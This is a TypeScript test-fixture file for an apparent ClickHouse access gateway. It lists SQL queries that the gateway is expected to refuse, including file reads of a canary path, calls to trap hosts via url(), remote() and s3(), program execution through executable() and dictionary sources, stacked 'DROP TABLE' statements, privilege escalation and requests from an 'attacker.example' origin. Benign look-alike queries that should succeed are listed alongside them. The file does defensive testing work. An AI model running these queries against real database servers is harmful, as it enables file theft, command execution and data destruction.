/** Attempts, and honest statements that look like them. `$CANARY`, `$OUTSIDE`, `$SERVER`, `$TRAP` and `$TRAPPORT` stand for places of the test. */
import { HIDDEN_CALLS, HIDDEN_IN_TEXTS, HIDDEN_IN_VALUES, HONEST_TEXTS } from "./hidden-call-attempts.ts";

type User = "admin" | "sink" | "finance" | "default" | "nobody";
export type Request = {
  readonly name: string;
  readonly user: User;
  readonly body: string;
  readonly parameters?: Readonly<Record<string, string>>;
  readonly headers?: Readonly<Record<string, string>>;
  readonly method?: "GET" | "POST";
};
export type Attempt = Request & { readonly code: number };
export type Honest = Request & { readonly answer?: string };
export type Places = {
  readonly canaryFile: string;
  readonly outside: string;
  readonly server: string;
  readonly trapUrl: string;
  readonly trapPort: number;
};

export type Refused = readonly [name: string, code: number, body: string, more?: Partial<Request>];

const DENIED = 497;
const NOT_HERE = 48;
const SYNTAX = 62;
const FIXED = 452;
const READ_ONLY = 164;
const UNKNOWN_FUNCTION = 46;
const UNKNOWN_TABLE = 60;
const BAD_SCHEMA = 434;
/** Expressions among values are not evaluated where one could be such a call. */
const NO_EXPRESSIONS = 344;
const LOGIN = 516;

/** As the user with the most rights: what the rights do not decide. */
const REACHING_OUT: readonly Refused[] = [
  ["a file", DENIED, "SELECT * FROM file('$CANARY', CSV, 'a String, b UInt8')"],
  ["a file, in capitals and comments", DENIED, "select * from /* x */ FILE /* y */ ('$CANARY')"],
  ["a file, quoted", DENIED, "SELECT * FROM `file`('$CANARY', CSV)"],
  ["a file by its scalar function", DENIED, "SELECT file('$CANARY')"],
  ["a file in a subquery", DENIED, "SELECT 1 WHERE 'x' IN (SELECT a FROM file('$CANARY', CSV, 'a String, b UInt8'))"],
  ["a file in a common table expression", DENIED, "WITH f AS (SELECT * FROM file('$CANARY')) SELECT * FROM f"],
  ["a file in a lambda", DENIED, "SELECT arrayMap(x -> file(x), ['$CANARY'])"],
  ["a file in a view", DENIED, "CREATE VIEW default.v AS SELECT * FROM file('$CANARY', CSV, 'a String')"],
  [
    "a file in a materialized view",
    DENIED,
    "CREATE MATERIALIZED VIEW default.v ENGINE = Memory AS SELECT * FROM file('$CANARY', CSV, 'a String')",
  ],
  ["a file in a default", DENIED, "CREATE TABLE default.d (a UInt8, b String DEFAULT file('$CANARY')) ENGINE = Memory"],
  ["a file in an alias column", DENIED, "ALTER TABLE default.rows ADD COLUMN c String ALIAS file('$CANARY')"],
  ["a file in a SQL function", DENIED, "CREATE FUNCTION f AS (x) -> file(x)"],
  ["a file in a mutation", DENIED, "ALTER TABLE default.rows UPDATE file = file('$CANARY') WHERE 1"],
  ["a file in a TTL", DENIED, "ALTER TABLE default.rows MODIFY TTL t + INTERVAL length(file('$CANARY')) DAY"],
  ["a file in an EXPLAIN", DENIED, "EXPLAIN SELECT * FROM file('$CANARY')"],
  ["a file's columns", DENIED, "DESCRIBE TABLE file('$CANARY')"],
  [
    "a file by INSERT INTO FUNCTION",
    DENIED,
    "INSERT INTO FUNCTION file('$OUTSIDE/written', CSV, 'a UInt8') VALUES (1)",
  ],
  ["a file by a table's engine", DENIED, "CREATE TABLE default.f (a String) ENGINE = File(CSV, '$CANARY')"],
  ["a file by CREATE TABLE AS", DENIED, "CREATE TABLE default.f AS file('$CANARY', CSV, 'a String')"],
  ["a file among values", NO_EXPRESSIONS, "INSERT INTO default.rows (file) VALUES (file('$CANARY'))"],
  ["a file among values, quoted", NO_EXPRESSIONS, "INSERT INTO default.rows (file) VALUES (`file`('$CANARY'))"],
  ["a file in the text of a table function", DENIED, "SELECT * FROM format(Values, 'a String', $$(file('$CANARY'))$$)"],
  [
    "a file in the structure of input()",
    DENIED,
    "INSERT INTO default.rows (file) SELECT a FROM input('a String DEFAULT file(''$CANARY'')') FORMAT JSONEachRow {}",
  ],
  ["a file by INTO OUTFILE", NOT_HERE, "SELECT 1 INTO OUTFILE '$OUTSIDE/written'"],
  ["a file by INTO OUTFILE, appended", NOT_HERE, "SELECT 1 INTO OUTFILE '$OUTSIDE/written' APPEND FORMAT CSV"],
  ["a file by FROM INFILE", NOT_HERE, "INSERT INTO default.rows (file, n) FROM INFILE '$CANARY' FORMAT CSV"],
  ["a file by a parameter", DENIED, "SELECT * FROM file({p:String})", { parameters: { param_p: "$CANARY" } }],
  ["a file by GET", DENIED, "", { method: "GET", parameters: { query: "SELECT * FROM file('$CANARY')" } }],
  ["many files", DENIED, "SELECT * FROM fileCluster('default', '$CANARY')"],
  ["a file system", DENIED, "SELECT * FROM filesystem('$OUTSIDE')"],
  ["a web server", DENIED, "SELECT * FROM url('$TRAP', CSV, 'a String, b UInt8')"],
  ["a web server by its engine", DENIED, "CREATE TABLE default.u (a String) ENGINE = URL('$TRAP', CSV)"],
  ["another server", DENIED, "SELECT * FROM remote('127.0.0.1:$TRAPPORT', system.one)"],
  ["another server, secure", DENIED, "SELECT * FROM remoteSecure('127.0.0.1:$TRAPPORT', system.one)"],
  ["a cluster", DENIED, "SELECT * FROM cluster('default', system.one)"],
  [
    "another server by its engine",
    DENIED,
    "CREATE TABLE default.u (a String) ENGINE = Distributed('default', 'system', 'one')",
  ],
  ["an object store", DENIED, "SELECT * FROM s3('$TRAP', CSV, 'a String')"],
  ["MySQL", DENIED, "SELECT * FROM mysql('127.0.0.1:$TRAPPORT', 'a', 'b', 'c', 'd')"],
  ["PostgreSQL", DENIED, "SELECT * FROM postgresql('127.0.0.1:$TRAPPORT', 'a', 'b', 'c', 'd')"],
  ["a database of MySQL", DENIED, "CREATE DATABASE m ENGINE = MySQL('127.0.0.1:$TRAPPORT', 'a', 'b', 'c')"],
  ["SQLite", DENIED, "SELECT * FROM sqlite('$CANARY', 't')"],
  ["a database of files", DENIED, "CREATE DATABASE f ENGINE = Filesystem('$OUTSIDE')"],
  [
    "a table of Kafka",
    DENIED,
    "CREATE TABLE default.k (a String) ENGINE = Kafka('127.0.0.1:$TRAPPORT', 't', 'g', 'CSV')",
  ],
  ["a program", DENIED, "SELECT * FROM executable('cat', CSV, 'a String')"],
  ["a program by its engine", DENIED, "CREATE TABLE default.e (a String) ENGINE = Executable('cat', CSV)"],
  ["Python", UNKNOWN_FUNCTION, "SELECT * FROM python('import os')"],
  [
    "a dictionary of files",
    DENIED,
    "CREATE DICTIONARY default.dict (a String, n UInt64) PRIMARY KEY n SOURCE(FILE(path '$CANARY' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
  ],
  [
    "a dictionary of a web server",
    DENIED,
    "CREATE DICTIONARY default.dict (a String, n UInt64) PRIMARY KEY n SOURCE(HTTP(url '$TRAP' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
  ],
  [
    "a dictionary of a program",
    DENIED,
    "CREATE DICTIONARY default.dict (a String, n UInt64) PRIMARY KEY n SOURCE(EXECUTABLE(command 'id' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
  ],
  [
    "a dictionary of another server",
    DENIED,
    "CREATE DICTIONARY default.dict (a String, n UInt64) PRIMARY KEY n SOURCE(CLICKHOUSE(host '127.0.0.1' port $TRAPPORT table 't')) LAYOUT(FLAT()) LIFETIME(0)",
  ],
  ["a backup elsewhere", 36, "BACKUP TABLE meterline.secret TO File('$OUTSIDE/written')"],
  ["a backup by a way out", 36, "BACKUP TABLE meterline.secret TO File('../../outside/written')"],
  ["a backup to an object store", DENIED, "BACKUP TABLE meterline.secret TO S3('$TRAP', 'a', 'b')"],
  ["a backup to a disk", DENIED, "BACKUP TABLE meterline.secret TO Disk('default', 'written')"],
  ["a table from a directory", 481, "ATTACH TABLE default.a FROM '$OUTSIDE' (a String) ENGINE = MergeTree ORDER BY a"],
  [
    "a disk of its own",
    DENIED,
    "CREATE TABLE default.t (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '$OUTSIDE/written/')",
  ],
  [
    "a directory of an engine's own",
    DENIED,
    "CREATE TABLE default.r (k String, v String) ENGINE = EmbeddedRocksDB(0, '$OUTSIDE/written') PRIMARY KEY k",
  ],
  [
    "a directory of a materialized view's engine",
    DENIED,
    "CREATE MATERIALIZED VIEW default.r ENGINE = EmbeddedRocksDB(0, '$OUTSIDE/written') PRIMARY KEY k AS SELECT file AS k FROM default.rows",
  ],
  ["a table under another name", DENIED, "CREATE TABLE finance.secret ENGINE = Alias('meterline', 'secret')"],
  ["a database of a backup", DENIED, "CREATE DATABASE b ENGINE = Backup('default', File('b'))"],
  ["a database over others", DENIED, "CREATE DATABASE b ENGINE = Overlay('default', 'meterline')"],
  ["a program in WebAssembly", DENIED, "CREATE FUNCTION w LANGUAGE WASM ARGUMENTS (x UInt8) RETURNS UInt8 FROM 'x'"],
  ["a program by a driver", DENIED, "CREATE FUNCTION w ARGUMENTS (x UInt8) RETURNS UInt8 ENGINE = Python AS 'x'"],
  ["a dictionary's cache elsewhere", 481, "SELECT dictGet('default.elsewhere', 'file', toUInt64(1))"],
  [
    "a backup that rests on one elsewhere",
    36,
    "BACKUP TABLE default.rows TO File('b') SETTINGS base_backup = File('$OUTSIDE/x')",
  ],
  [
    "a backup that rests on one in an object store",
    DENIED,
    "BACKUP TABLE default.rows TO File('b') SETTINGS base_backup = S3('$TRAP', 'a', 'b')",
  ],
  ["a second statement", SYNTAX, "SELECT 1; SELECT 2"],
  ["a second statement that writes", SYNTAX, "SELECT 1; DROP TABLE meterline.counts"],
  ["a second statement behind values", SYNTAX, "INSERT INTO default.rows (n) VALUES (1); DROP TABLE meterline.counts"],
  ["several statements at once", SYNTAX, "SELECT 1 PARALLEL WITH DROP TABLE meterline.counts"],
  [
    "a schema of another place",
    FIXED,
    "SELECT 1 AS a FORMAT Protobuf",
    { parameters: { format_schema_source: "file", format_schema: "$OUTSIDE/x:M" } },
  ],
  [
    "a schema by a query",
    FIXED,
    "SELECT 1 AS a FORMAT Protobuf",
    { parameters: { format_schema_source: "query", format_schema: "SELECT file('$CANARY')" } },
  ],
  [
    "a schema that takes in another file",
    BAD_SCHEMA,
    "SELECT 1 AS a FORMAT Protobuf",
    {
      parameters: {
        format_schema: "syntax = 'proto3'; import '$CANARY'; message M { uint32 a = 1; }",
        format_schema_message_name: "M",
      },
    },
  ],
  [
    "a registry of schemas",
    FIXED,
    "SELECT 1 AS a FORMAT AvroConfluent",
    { parameters: { format_avro_schema_registry_url: "$TRAP" } },
  ],
  [
    "a file for errors",
    FIXED,
    "INSERT INTO default.rows (n) FORMAT CSV x",
    { parameters: { input_format_record_errors_file_path: "$OUTSIDE/written" } },
  ],
  [
    "a file for a schema",
    FIXED,
    "SELECT 1 AS a FORMAT Protobuf",
    { parameters: { output_format_schema: "$OUTSIDE/written" } },
  ],
  [
    "another name for what was read",
    FIXED,
    "SELECT 1",
    { parameters: { rename_files_after_processing: "$OUTSIDE/written" } },
  ],
  ["a template of another place", FIXED, "SELECT 1 FORMAT Template SETTINGS format_template_row = '$CANARY'"],
  [
    "a filter in a setting",
    FIXED,
    "SELECT 1",
    { parameters: { additional_table_filters: "{'meterline.counts': 'file(\\'$CANARY\\') = 1'}" } },
  ],
  ["another dialect", SYNTAX, "from meterline.counts", { parameters: { dialect: "prql" } }],
  ["a progress without end", FIXED, "SELECT 1", { parameters: { interactive_delay: "0" } }],
];

const OTHER_RIGHTS: readonly Refused[] = [
  ["a user more", NOT_HERE, "CREATE USER mallory IDENTIFIED BY 'x'"],
  ["a right more", NOT_HERE, "GRANT ALL ON *.* TO finance"],
  ["another role", DENIED, "SET ROLE server"],
  ["no role", DENIED, "SET ROLE NONE"],
  ["all roles", DENIED, "SET ROLE ALL"],
  ["the default roles", DENIED, "SET ROLE DEFAULT"],
  ["another user's skin", DENIED, "EXECUTE AS default SELECT 1"],
  ["an end of the server", DENIED, "SYSTEM SHUTDOWN"],
  ["a kill of the server", DENIED, "SYSTEM KILL"],
  ["a reload of its configuration", 1, "SYSTEM RELOAD CONFIG"],
  ["an end of the database system", DENIED, "DROP DATABASE system"],
  ["another view of queries", DENIED, "CREATE OR REPLACE VIEW system.processes_of_finance AS SELECT 1"],
  ["a table in the database system", DENIED, "CREATE TABLE system.more (a UInt8) ENGINE = Memory"],
  ["a named collection", DENIED, "CREATE NAMED COLLECTION c AS url = '$TRAP'"],
];

const AS_FINANCE: readonly Refused[] = [
  ["a table of the pipeline", DENIED, "SELECT * FROM meterline.secret"],
  ["a table of the pipeline in a subquery", DENIED, "SELECT (SELECT any(a) FROM meterline.secret)"],
  ["a table of the pipeline in a join", DENIED, "SELECT * FROM finance.total JOIN meterline.secret ON 1"],
  ["a table of the pipeline by merge()", 636, "SELECT * FROM merge('meterline', 'secret')"],
  ["a table of the pipeline by loop()", DENIED, "SELECT * FROM loop(meterline, secret) LIMIT 1"],
  [
    "a table of the pipeline by an identifier",
    UNKNOWN_TABLE,
    "SELECT * FROM {t:Identifier}",
    { parameters: { param_t: "meterline.secret" } },
  ],
  [
    "a table of the pipeline as the database",
    DENIED,
    "SELECT * FROM secret",
    { parameters: { database: "meterline" } },
  ],
  ["the primary index of a table", DENIED, "SELECT * FROM mergeTreeIndex('meterline', 'secret')"],
  ["the structure of a table", DENIED, "SHOW CREATE TABLE meterline.secret"],
  ["the columns of a table", DENIED, "DESCRIBE TABLE meterline.secret"],
  ["an insert", DENIED, "INSERT INTO meterline.counts VALUES (1)"],
  ["an insert into its own views", DENIED, "INSERT INTO finance.total VALUES (1)"],
  ["a table", DENIED, "CREATE TABLE finance.t (a UInt8) ENGINE = Memory"],
  [
    "a view with somebody else's rights",
    DENIED,
    "CREATE VIEW finance.v DEFINER = default SQL SECURITY DEFINER AS SELECT * FROM meterline.secret",
  ],
  ["a drop", DENIED, "DROP VIEW finance.total"],
  ["an alteration", DENIED, "ALTER TABLE meterline.counts DELETE WHERE 1"],
  ["a truncation", DENIED, "TRUNCATE TABLE meterline.counts"],
  ["an optimization", DENIED, "OPTIMIZE TABLE meterline.counts FINAL"],
  ["a rename", DENIED, "RENAME TABLE meterline.counts TO finance.counts"],
  ["an exchange", DENIED, "EXCHANGE TABLES meterline.counts AND meterline.secret"],
  ["a backup", DENIED, "BACKUP TABLE meterline.counts TO File('b')"],
  ["leave to write", DENIED, "INSERT INTO meterline.counts VALUES (1)", { parameters: { readonly: "0" } }],
  ["leave to write in a session", READ_ONLY, "SET readonly = 0", { parameters: { session_id: "f" } }],
  ["a function", DENIED, "CREATE FUNCTION f AS (x) -> x"],
  ["memory without a limit", FIXED, "SELECT 1", { parameters: { max_memory_usage: "0" } }],
  ["time without a limit", FIXED, "SELECT 1 SETTINGS max_execution_time = 0"],
  ["a result without a limit", FIXED, "SET max_result_bytes = 0", { parameters: { session_id: "l" } }],
  ["more memory than its limit", FIXED, "SELECT 1 SETTINGS max_memory_usage = 9000000000000"],
  ["memory that is not counted", FIXED, "SELECT 1 SETTINGS max_untracked_memory = 9000000000000"],
  [
    "the engine's own limit, which is none",
    FIXED,
    "SET max_memory_usage = DEFAULT",
    { parameters: { session_id: "l" } },
  ],
  ["the engine's own limit for a query", FIXED, "SELECT 1 SETTINGS max_memory_usage = DEFAULT"],
  ["the sink's precedence", FIXED, "SELECT 1 SETTINGS os_threads_nice_value_query = 0"],
  ["the sink's precedence by another name", FIXED, "SELECT 1 SETTINGS os_thread_priority = 0"],
  ["another profile and its limits", FIXED, "SELECT 1 SETTINGS profile = 'default', max_memory_usage = 0"],
  ["a temporary table over others", DENIED, "CREATE TEMPORARY TABLE t ENGINE = Merge('meterline', 'secret')"],
  [
    "a temporary view with somebody else's rights",
    DENIED,
    "CREATE TEMPORARY VIEW t SQL SECURITY NONE AS SELECT * FROM meterline.secret",
  ],
  ["a filter in a setting", FIXED, "SELECT 1", { parameters: { additional_result_filter: "1" } }],
  [
    "what another user's query left in the cache",
    DENIED,
    "SELECT a FROM meterline.secret SETTINGS use_query_cache = 1",
  ],
  ["a file as a temporary table", DENIED, "CREATE TEMPORARY TABLE t (a String) ENGINE = File(CSV, '$CANARY')"],
  ["a file", DENIED, "SELECT * FROM file('$CANARY')"],
  ["a flush", DENIED, "SYSTEM FLUSH LOGS"],
];

const AS_SINK: readonly Refused[] = [
  ["a view of finance", DENIED, "SELECT * FROM finance.total"],
  ["a drop", DENIED, "DROP TABLE meterline.counts"],
  ["a deletion", DENIED, "ALTER TABLE meterline.counts DELETE WHERE 1"],
  ["a truncation", DENIED, "TRUNCATE TABLE meterline.counts"],
  ["a table", DENIED, "CREATE TABLE meterline.t (a UInt8) ENGINE = Memory"],
  ["another database", DENIED, "INSERT INTO default.rows (n) VALUES (1)"],
];

const LOGINS: readonly Refused[] = [
  ["no password", LOGIN, "SELECT 1", { headers: { "x-clickhouse-user": "finance" } }],
  ["an empty user", LOGIN, "SELECT 1", { headers: { "x-clickhouse-user": "", "x-clickhouse-key": "" } }],
  ["a wrong password", LOGIN, "SELECT 1", { headers: { "x-clickhouse-user": "admin", "x-clickhouse-key": "finance" } }],
  ["a user that is none", LOGIN, "SELECT 1", { parameters: { user: "root", password: "" } }],
  [
    "two users at once",
    LOGIN,
    "SELECT 1",
    {
      headers: { "x-clickhouse-user": "finance", "x-clickhouse-key": "finance" },
      parameters: { user: "admin", password: "admin" },
    },
  ],
  ["the engine's own role as a user", LOGIN, "SELECT 1", { parameters: { user: "server", password: "" } }],
  [
    "a page of another host",
    LOGIN,
    "DROP TABLE meterline.counts",
    { headers: { origin: "https://attacker.example", "x-clickhouse-user": "admin", "x-clickhouse-key": "admin" } },
  ],
  [
    "a page without an origin",
    LOGIN,
    "DROP TABLE meterline.counts",
    { headers: { origin: "null", "x-clickhouse-user": "admin", "x-clickhouse-key": "admin" } },
  ],
  [
    "another host's name",
    LOGIN,
    "SELECT 1",
    { headers: { host: "meterline.attacker.example", "x-clickhouse-user": "admin", "x-clickhouse-key": "admin" } },
  ],
];

export function attempts(): readonly Attempt[] {
  const of = (user: User, list: readonly Refused[]): readonly Attempt[] =>
    list.map(([name, code, body, more]) => ({ user, name, code, body, ...more }));
  return [
    ...of("admin", [...REACHING_OUT, ...OTHER_RIGHTS, ...HIDDEN_CALLS]),
    ...of("admin", named("in a text", HIDDEN_IN_TEXTS)),
    ...of("admin", named("among values", HIDDEN_IN_VALUES)),
    ...of("finance", AS_FINANCE),
    ...of("sink", AS_SINK),
    ...of("nobody", LOGINS),
  ];
}

function named(where: string, list: readonly Refused[]): readonly Refused[] {
  return list.map(([name, ...rest]) => [`a file ${where}, ${name}`, ...rest]);
}

export type Answered = readonly [name: string, body: string, answer?: string, more?: Partial<Request>];

const AS_ADMIN: readonly Answered[] = [
  ["a column called file", "SELECT file FROM default.rows WHERE file = 'x'", ""],
  ["a text with a call in it", "SELECT 'file (x)', 'url(y)' AS s3", "file (x)\turl(y)\n"],
  ["a comment with a call in it", "SELECT 1 /* file('x') */ -- remote('y')", "1\n"],
  ["an alias called format", "SELECT 1 AS format", "1\n"],
  ["a semicolon at the end", "SELECT 1;", "1\n"],
  ["a semicolon in a text", "SELECT ';DROP TABLE x'", ";DROP TABLE x\n"],
  [
    "values with expressions",
    "INSERT INTO default.rows VALUES ('a (b)', 1 + 1, toDecimal64('1.5', 6), now()), ('file(x)', 3, -2.25, '2026-01-01 00:00:00')",
    "",
  ],
  [
    "JSON with brackets in it",
    'INSERT INTO default.rows FORMAT JSONEachRow {"file":"f(x); DROP","n":9,"d":"1.000001","t":"2026-01-01 00:00:00"}',
    "",
  ],
  [
    "what was inserted",
    "SELECT file, n, d FROM default.rows ORDER BY n",
    "a (b)\t2\t1.5\nfile(x)\t3\t-2.25\nf(x); DROP\t9\t1.000001\n",
  ],
  ["rows by input()", "INSERT INTO default.rows (n) SELECT a * 2 FROM input('a UInt64') FORMAT CSV\n21\n", ""],
  ["an update", "ALTER TABLE default.rows UPDATE d = 5 WHERE n = 42 SETTINGS mutations_sync = 1", ""],
  ["a deletion", "DELETE FROM default.rows WHERE n = 42", ""],
  ["a view", "CREATE VIEW default.honest AS SELECT n, d FROM default.rows", ""],
  [
    "a materialized view",
    "CREATE MATERIALIZED VIEW default.sums ENGINE = SummingMergeTree ORDER BY n AS SELECT n, sum(d) AS d FROM default.rows GROUP BY n",
    "",
  ],
  ["a column more", "ALTER TABLE default.rows ADD COLUMN note String DEFAULT concat('n', toString(n))", ""],
  ["an index", "ALTER TABLE default.rows ADD INDEX by_file file TYPE bloom_filter GRANULARITY 1", ""],
  ["a projection", "ALTER TABLE default.rows ADD PROJECTION p (SELECT file, count() GROUP BY file)", ""],
  [
    "a dictionary on a table",
    "CREATE DICTIONARY default.names (n UInt64, file String) PRIMARY KEY n SOURCE(CLICKHOUSE(DB 'default' TABLE 'rows')) LAYOUT(HASHED()) LIFETIME(0)",
    "",
  ],
  ["a word of the dictionary", "SELECT dictGet('default.names', 'file', toUInt64(9))", "f(x); DROP\n"],
  ["a SQL function", "CREATE FUNCTION twice AS (x) -> 2 * x", ""],
  ["the SQL function", "SELECT twice(21)", "42\n"],
  ["an order without an engine", "CREATE TABLE default.plain (a UInt8, b UInt8) ORDER BY (a, b)", ""],
  ["more memory than the limit, as an administrator", "SELECT 1 SETTINGS max_memory_usage = 0", "1\n"],
  ["a plan", "EXPLAIN SELECT n FROM default.rows"],
  ["a syntax tree", "EXPLAIN AST SELECT file FROM default.rows"],
  ["a pipeline", "EXPLAIN PIPELINE SELECT count() FROM numbers(10)"],
  ["a common table expression", "WITH x AS (SELECT 1 AS a) SELECT a FROM x", "1\n"],
  [
    "a recursive one",
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 4) SELECT sum(n) FROM r",
    "10\n",
  ],
  ["a window function", "SELECT sum(number) OVER (ORDER BY number) FROM numbers(3)", "0\n1\n3\n"],
  ["a lambda", "SELECT arrayMap(x -> x + 1, [1, 2])", "[2,3]\n"],
  ["JSON", "SELECT JSONExtractString('{\"file\":\"(x)\"}', 'file')", "(x)\n"],
  ["a union", "SELECT * FROM (SELECT 1 AS a UNION ALL SELECT 2 AS a) ORDER BY a", "1\n2\n"],
  [
    "an identifier as a parameter",
    "SELECT sum({c:Identifier}) FROM numbers(4)",
    "6\n",
    { parameters: { param_c: "number" } },
  ],
  [
    "the table function values",
    "SELECT * FROM values('a UInt8, b String', (1, 'x'), (2, 'file(y)'))",
    "1\tx\n2\tfile(y)\n",
  ],
  ["the table function format", "SELECT * FROM format(JSONEachRow, '{\"a\": 1}')", "1\n"],
  ["generated rows", "SELECT count() FROM (SELECT * FROM generateRandom('a UInt8', 1, 10, 2) LIMIT 10)"],
  ["a backup of one's own", "BACKUP TABLE default.rows TO File('mine')"],
  ["a heredoc", "SELECT $x$it's$x$", "it\\'s\n"],
];
const OF_FINANCE: readonly Answered[] = [
  ["its view", "SELECT total FROM finance.total", "7\n"],
  [
    "its view in a subquery with a table of its own",
    "SELECT total + a FROM finance.total, (SELECT 1 AS a) AS own",
    "8\n",
  ],
  [
    "less memory for its query",
    "SELECT getSetting('max_memory_usage')",
    "1000000\n",
    { parameters: { max_memory_usage: "1000000" } },
  ],
  ["a page of this host", "SELECT 1", "1\n", { headers: { origin: "http://localhost:3000" } }],
  ["a setting for its query", "SELECT getSetting('max_threads')", "2\n", { parameters: { max_threads: "2" } }],
  ["its tables", "SHOW TABLES FROM finance", "total\n"],
  ["its queries", "SELECT count() FROM system.processes", "1\n"],
];

export function honest(): readonly Honest[] {
  const of = (user: User, list: readonly Answered[]): readonly Honest[] =>
    list.map(([name, body, answer, more]) => ({ user, name, body, ...(answer !== undefined && { answer }), ...more }));
  return [...of("admin", [...AS_ADMIN, ...HONEST_TEXTS]), ...of("finance", OF_FINANCE)];
}
